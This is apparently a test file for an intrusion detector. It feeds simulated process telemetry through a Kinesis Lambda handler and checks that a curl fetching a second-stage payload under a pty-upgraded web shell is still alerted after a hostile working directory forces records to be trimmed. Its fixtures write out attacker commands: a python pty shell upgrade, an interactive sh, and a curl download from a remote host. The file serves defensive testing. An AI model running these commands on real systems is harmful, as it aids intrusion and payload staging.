import type { KinesisStreamEvent } from "aws-lambda";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import type { Alert } from "../../lib/alerts/alert.js";
import { makeKinesisHandler } from "../../lib/triggers/kinesis-trigger.js";
import { detectorHarness } from "../helpers/detector-harness.js";
import { startDynalite } from "../helpers/dynalite.js";
import { createStream, putPayloads, readAsLambdaEvents, startKinesalite } from "../helpers/kinesalite.js";

/**
 * Issue 10, "evidence can be trimmed away", end to end: the Kinesis handler on kinesalite, lineage in dynalite
 * through the real store, so the shell's record is cut to its size cap and read back by the next batch.
 *
 * A working directory of 15 components of 250 `\x01` (legal on Linux: NAME_MAX 255, PATH_MAX 4096) is 3,765
 * bytes of telemetry and 22,574 bytes of JSON (`\u0001`). Batch 1: bash runs /tmp/.d/x.sh there; the script
 * ends in the usual shell upgrade, `exec python3 -c 'import pty; pty.spawn("/bin/sh")'`, so /tmp/.d/x.sh is
 * an earlier image of the pid that spawns the shell. Batch 2: curl under that shell. The shell's record holds
 * its parent with that earlier image; before, the cap cut every ancestor's earlier images before it cut a
 * working directory, and curl raised nothing.
 */
let kinesis: Awaited<ReturnType<typeof startKinesalite>>;
let streams = 0;

beforeAll(async () => {
  kinesis = await startKinesalite();
});
afterAll(async () => {
  await kinesis.close();
});

const HOST = "web-01";
const HOSTILE_CWD = `/${Array.from({ length: 15 }, () => "\x01".repeat(250)).join("/")}`;
const T0 = 1_795_000_000_000;

interface Exec {
  pid: number;
  ppid: number;
  exe: string;
  args: string[];
  at: number;
}

/** One native exec event (lib/telemetry/sources/native.ts), every process in the hostile cwd. */
function line({ pid, ppid, exe, args, at }: Exec): string {
  return JSON.stringify({
    schema: "netutil-detector/exec@1",
    time: T0 + at,
    source: { eventId: `${HOST}:${pid}:${at}` },
    host: { name: HOST },
    user: { id: "33", name: "www-data" },
    process: { pid, ppid, executable: exe, args, cwd: HOSTILE_CWD, sessionId: "4" },
  });
}

/** The web server's worker that the attacker's command ran under: the top of the lineage (its parent is init). */
const WORKER: Exec = { pid: 4000, ppid: 1, exe: "/usr/sbin/php-fpm8.3", args: ["php-fpm: pool www"], at: -5 };
const X_SH: Exec = { pid: 4100, ppid: 4000, exe: "/usr/bin/bash", args: ["bash", "/tmp/.d/x.sh"], at: 0 };
const PTY: Exec = {
  pid: 4100,
  ppid: 4000,
  exe: "/usr/bin/python3.12",
  args: ["python3", "-c", 'import pty; pty.spawn("/bin/sh")'],
  at: 5,
};
const SHELL: Exec = { pid: 4101, ppid: 4100, exe: "/usr/bin/dash", args: ["/bin/sh"], at: 10 };
const CURL: Exec = {
  pid: 4102,
  ppid: 4101,
  exe: "/usr/bin/curl",
  args: ["curl", "-s", "-o", "/dev/null", "http://198.51.100.7/stage2"],
  at: 20,
};

/** Each batch's lines on a fresh stream, read back as the event source mapping delivers them, batch by batch. */
async function kinesisBatches(batches: Exec[][]): Promise<KinesisStreamEvent[]> {
  const name = `evidence-${++streams}`;
  const arn = await createStream(kinesis.client, name);
  const events: KinesisStreamEvent[] = [];
  for (const batch of batches) {
    await putPayloads(
      kinesis.client,
      name,
      batch.map((exec) => ({ data: line(exec), partitionKey: HOST })),
    );
  }
  const all = (await readAsLambdaEvents(kinesis.client, name, arn, 10_000))[0]!.Records;
  let at = 0;
  for (const batch of batches) {
    events.push({ Records: all.slice(at, at + batch.length) });
    at += batch.length;
  }
  return events;
}

/** Every path the alert's ancestry names: each ancestor's executable and script, and its earlier images'. */
const ancestryPaths = (alert: Alert): string[] =>
  alert.ancestors.flatMap((a) =>
    [a, ...a.execChain].flatMap((image) => [
      image.executable,
      ...(image.script === null ? [] : [image.script]),
    ]),
  );

const NOHUP: Exec = { pid: 4101, ppid: 4100, exe: "/usr/bin/dash", args: ["sh", "-c", "sh -i"], at: 6 };
const INNER: Exec = { pid: 4102, ppid: 4101, exe: "/usr/bin/dash", args: ["sh", "-i"], at: 7 };

describe("a hostile working directory never costs the evidence", () => {
  it.each<[string, Exec[], Exec, Partial<Alert["location"]>]>([
    [
      "x.sh ends in a pty shell upgrade: it is an earlier image of the shell's parent",
      [WORKER, X_SH, PTY, SHELL],
      { ...CURL, pid: 4110, ppid: SHELL.pid },
      { kind: "exec-chain", depth: 2 },
    ],
    [
      "x.sh is the parent of the shell's grandparent (sh -c, then an interactive sh)",
      [WORKER, X_SH, NOHUP, INNER, { ...SHELL, pid: 4103, ppid: INNER.pid }],
      { ...CURL, pid: 4110, ppid: 4103 },
      { kind: "script", depth: 4 },
    ],
  ])(
    "%s: curl in the next batch is alerted, its ancestry names /tmp/.d/x.sh",
    async (_name, first, curl, found) => {
      expect(Buffer.byteLength(JSON.stringify(HOSTILE_CWD))).toBeGreaterThan(22_000);
      const local = await startDynalite();
      try {
        const h = detectorHarness(local.client, local.tableName);
        const handler = makeKinesisHandler(h.deps);
        const [one, two] = await kinesisBatches([first, [curl]]);

        expect(await handler(one!)).toEqual({ batchItemFailures: [] });
        expect(h.published()).toEqual([]);
        expect(await handler(two!)).toEqual({ batchItemFailures: [] });
        // The second batch knew the shell only from its stored record, cut to the record size cap.
        expect(h.reports[1]!.counters.execEvents).toBe(1);

        const alerts = h.published();
        expect(alerts).toHaveLength(1);
        const alert = alerts[0]!;
        expect(alert).toMatchObject({
          process: { pid: curl.pid, ppid: curl.ppid, args: curl.args, cwd: HOSTILE_CWD },
          utility: { name: "curl" },
          location: { path: "/tmp/.d/x.sh", tier: "temp", ...found },
        });
        expect(ancestryPaths(alert)).toContain("/tmp/.d/x.sh");
        // The chain that leads to it, nearest first: every process from curl's parent up to the script's, then
        // the top.
        const pids = [...new Set(first.map((e) => e.pid))].reverse();
        expect(alert.ancestors.map((a) => a.pid)).toEqual(pids);
        const script = alert.ancestors[found.depth! - 1]!;
        expect(script.pid).toBe(X_SH.pid);
        expect([script, ...script.execChain]).toContainEqual(
          expect.objectContaining({ executable: "/usr/bin/bash", script: "/tmp/.d/x.sh", args: X_SH.args }),
        );
      } finally {
        await local.close();
      }
    },
  );
});
